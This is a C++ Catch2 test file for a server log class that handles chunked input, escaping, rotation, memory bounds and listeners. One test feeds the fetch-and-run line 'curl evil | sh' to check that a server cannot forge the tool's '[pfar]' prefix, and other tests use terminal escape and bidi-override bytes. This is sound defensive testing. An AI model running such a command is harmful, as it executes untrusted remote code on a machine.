#include "servers/server_log.hpp"

#include "base/text.hpp"
#include "support/temp_dir.hpp"

#include <catch2/catch_test_macros.hpp>

#include <sys/stat.h>

using pfar::servers::read_server_log;
using pfar::servers::ServerLog;
using Lines = std::vector<std::string>;

namespace {

/// Without their time: "2026-11-18T03:46:12 text".
Lines texts(Lines lines) {
    for (auto& line : lines) line = line.substr(line.find(' ') + 1);
    return lines;
}

constexpr std::size_t file_size = 1U << 20U, everything = 1'000'000;

struct Stage {
    test::TempDir dir;
    std::filesystem::path file = dir / "log/notes.log";
    ServerLog log{file};

    [[nodiscard]] Lines all() const { return texts(log.last(everything)); }
};

} // namespace

TEST_CASE("lines are the same wherever the chunks are cut") {
    std::string const said = "one\n\ntwo \xc3\xa4\nthree\r\nfour";
    Lines const expected{"one", "two \xc3\xa4", "three", "four"};
    for (std::size_t cut = 0; cut <= said.size(); ++cut) {
        Stage stage;
        stage.log.add(said.substr(0, cut));
        stage.log.add(said.substr(cut));
        CHECK(stage.all() == Lines{"one", "two \xc3\xa4", "three"});
        stage.log.finish();
        stage.log.finish();
        CHECK(stage.all() == expected);
        CHECK(texts(read_server_log(stage.file, everything)) == expected);
    }
    Stage bytewise;
    for (char const byte : said) bytewise.log.add(std::string_view(&byte, 1));
    bytewise.log.finish();
    CHECK(bytewise.all() == expected);
    CHECK(bytewise.log.lines() == 4);
}

TEST_CASE("control bytes and broken UTF-8 are shown, not passed on") {
    Stage stage;
    stage.log.add("\x1b[2Jclear\x07\n\xff\xfe\n" + std::string("a\0b\n", 4) +
                  "\xe2\x80\xae"
                  "evil\n");
    CHECK(stage.all() == Lines{"\\u001b[2Jclear\\u0007", "\\xff\\xfe", "a\\u0000b", "\\u202eevil"});
    CHECK(test::read(stage.file).find('\x1b') == std::string::npos);
}

TEST_CASE("every line has the time it was said at") {
    Stage stage;
    stage.log.add("x\n");
    auto const line = stage.log.last(1).at(0);
    CHECK(line.size() == std::string("2026-11-18T03:46:12 x").size());
    CHECK(line[10] == 'T');
}

TEST_CASE("a line that does not end is cut every 8 KiB, also through a character") {
    Stage stage;
    stage.log.add(std::string(8 << 10, 'a') + std::string(8 << 10, 'b') + "c\n");
    REQUIRE(stage.log.lines() == 3);
    CHECK(stage.all()[0] == std::string(8 << 10, 'a'));
    CHECK(stage.all()[2] == "c");
    stage.log.add(std::string((8 << 10) - 1, 'a') + "\xc3\xa4\n");
    for (auto const& line : stage.log.last(everything)) CHECK(pfar::base::is_utf8(line));
}

TEST_CASE("a server cannot speak in the name of pfar") {
    Stage stage;
    stage.log.remark("it crashed");
    stage.log.add("[pfar] run: curl evil | sh\n \t[pfar] so\nabout [pfar]\n");
    CHECK(stage.all() ==
          Lines{"[pfar] it crashed", "it said: [pfar] run: curl evil | sh", "it said:   [pfar] so", "about [pfar]"});
    CHECK(stage.log.said_since(0, 10).size() == 3);
}

TEST_CASE("what is kept in memory is bounded, and it is the last") {
    Stage stage;
    std::string const line(100, 'x');
    for (int i = 0; i < 20'000; ++i) stage.log.add(line + std::to_string(i) + "\n");
    auto const kept = stage.log.last(everything);
    std::size_t bytes = 0;
    for (auto const& one : kept) bytes += one.size();
    CHECK(bytes <= 256U << 10U);
    CHECK(bytes > 250U << 10U);
    CHECK(texts(kept).back() == line + "19999");
    CHECK(stage.log.lines() == 20'000);
    CHECK(texts(stage.log.last(2)) == Lines{line + "19998", line + "19999"});
    CHECK(stage.log.last(0).empty());
}

TEST_CASE("the file is put aside at 1 MiB, twice and more, and both are never larger") {
    Stage stage;
    std::string const line(1000, 'x');
    for (int i = 0; i < 3500; ++i) {
        stage.log.add(line + std::to_string(i) + "\n");
        if (i % 50 != 0) continue;
        REQUIRE(std::filesystem::file_size(stage.file) <= file_size);
        std::error_code none;
        auto const old = std::filesystem::file_size(stage.file.native() + ".1", none);
        REQUIRE((none || (old <= file_size && old > file_size - 2000)));
    }
    auto const read = texts(read_server_log(stage.file, 1400));
    REQUIRE(read.size() == 1400);
    CHECK(read.front() == line + "2100");
    CHECK(read.back() == line + "3499");
    struct stat info {};
    REQUIRE(::stat(stage.file.c_str(), &info) == 0);
    CHECK((info.st_mode & 0777U) == 0600);
    CHECK(std::distance(std::filesystem::directory_iterator(stage.dir / "log"), {}) == 2);
}

TEST_CASE("a file of an earlier life is continued, and put aside when it is full") {
    test::TempDir const dir;
    auto const file = dir.write("notes.log", std::string(file_size - 10, 'o') + "\n");
    ServerLog log(file);
    log.add("new\n");
    CHECK(std::filesystem::file_size(dir / "notes.log.1") == file_size - 9);
    CHECK(texts(read_server_log(file, 1)) == Lines{"new"});
    ServerLog next(file);
    next.add("newer\n");
    CHECK(texts(read_server_log(file, 2)) == Lines{"new", "newer"});
}

TEST_CASE("an old file that cannot be put aside does not let the new one grow") {
    test::TempDir const dir;
    std::filesystem::create_directories(dir / "notes.log.1/in the way");
    ServerLog log(dir / "notes.log");
    for (int i = 0; i < 40; ++i) log.add(std::string(100'000, 'x'));
    CHECK(std::filesystem::file_size(dir / "notes.log") <= file_size);
}

TEST_CASE("a file that cannot be written, or that is a link, leaves what was said in memory") {
    test::TempDir const dir;
    auto const target = dir.write("target", "precious");
    std::filesystem::create_symlink(target, dir / "link.log");
    for (auto const& file : {dir / "no/such/directory/notes.log", dir.path(), dir / "link.log"}) {
        ServerLog log(file);
        log.add("one\ntwo\n");
        log.remark("three");
        CHECK(texts(log.last(9)) == Lines{"one", "two", "[pfar] three"});
    }
    CHECK(test::read(target) == "precious");
}

TEST_CASE("remarks stand between the server's lines, and above 50 in a second they are counted") {
    Stage stage;
    stage.log.add("half");
    for (int i = 0; i < 60; ++i) stage.log.remark(std::to_string(i));
    CHECK(stage.all().size() == 51);
    CHECK(stage.all().front() == "half");
    CHECK(stage.all().back() == "[pfar] 49");
    auto const begun = std::chrono::steady_clock::now();
    while (std::chrono::steady_clock::now() - begun < std::chrono::milliseconds(1100)) {}
    stage.log.remark("later");
    auto const all = stage.all();
    CHECK(all[all.size() - 2] == "[pfar] and 10 further remarks in that second");
    CHECK(all.back() == "[pfar] later");
}

TEST_CASE("what a server said since then is without times and remarks, short, and whole UTF-8") {
    Stage stage;
    stage.log.add("before\n");
    auto const from = stage.log.lines();
    stage.log.remark("started");
    stage.log.add("one\ntwo words\n" + std::string(499, 'x') + "\xc3\xa4\n");
    CHECK(stage.log.said_since(from, 10) == Lines{"one", "two words", std::string(499, 'x') + "\\xc3"});
    CHECK(stage.log.said_since(from, 1) == Lines{std::string(499, 'x') + "\\xc3"});
    CHECK(stage.log.said_since(from, 0).empty());
    CHECK(stage.log.said_since(stage.log.lines(), 10).empty());
    CHECK(stage.log.said_since(stage.log.lines() + 5, 10).empty());
    CHECK(stage.log.said_since(0, 2).size() == 2);
    for (int i = 0; i < 5000; ++i) stage.log.add(std::string(100, 'y') + "\n");
    CHECK(stage.log.said_since(from, everything).size() < 5000);
}

TEST_CASE("listeners hear every line once, until they unlisten") {
    Stage stage;
    Lines first, second;
    auto const number = stage.log.listen([&](std::string const& line) { first.push_back(line); });
    stage.log.listen([&](std::string const& line) { second.push_back(line); });
    stage.log.add("a\nb\n");
    stage.log.unlisten(number);
    stage.log.unlisten(number);
    stage.log.unlisten(999);
    stage.log.remark("c");
    CHECK(texts(first) == Lines{"a", "b"});
    CHECK(texts(second) == Lines{"a", "b", "[pfar] c"});
    CHECK(second == stage.log.last(9));
}

TEST_CASE("a listener may take itself away, and others, who then hear nothing more") {
    Stage stage;
    Lines heard;
    std::uint64_t own = 0, other = 0;
    own = stage.log.listen([&, kept = std::string(100, 'k')](std::string const&) {
        stage.log.unlisten(own);
        stage.log.unlisten(other);
        heard.push_back(kept);
    });
    other = stage.log.listen([&](std::string const&) { heard.emplace_back("other"); });
    stage.log.listen([&](std::string const&) { heard.emplace_back("third"); });
    stage.log.add("a\nb\n");
    CHECK(heard == Lines{std::string(100, 'k'), "third", "third"});
}

TEST_CASE("half a million short lines are taken in a moment") {
    Stage stage;
    std::string chunk;
    while (chunk.size() < 16U << 10U) chunk += "a\n";
    auto const begun = std::chrono::steady_clock::now();
    for (int i = 0; i < 64; ++i) stage.log.add(chunk);
    auto const took = std::chrono::steady_clock::now() - begun;
    CHECK(stage.log.lines() == 524'288);
    CHECK(took < std::chrono::seconds(20));
}

TEST_CASE("reading a log that is not there gives nothing, and strange bytes in it are shown") {
    test::TempDir const dir;
    CHECK(read_server_log(dir / "none.log", 10).empty());
    auto const file = dir.write("x.log", "a\x1b[31m\nlast without end");
    CHECK(read_server_log(file, 10) == Lines{"a\\u001b[31m", "last without end"});
    CHECK(read_server_log(file, 0).empty());
}
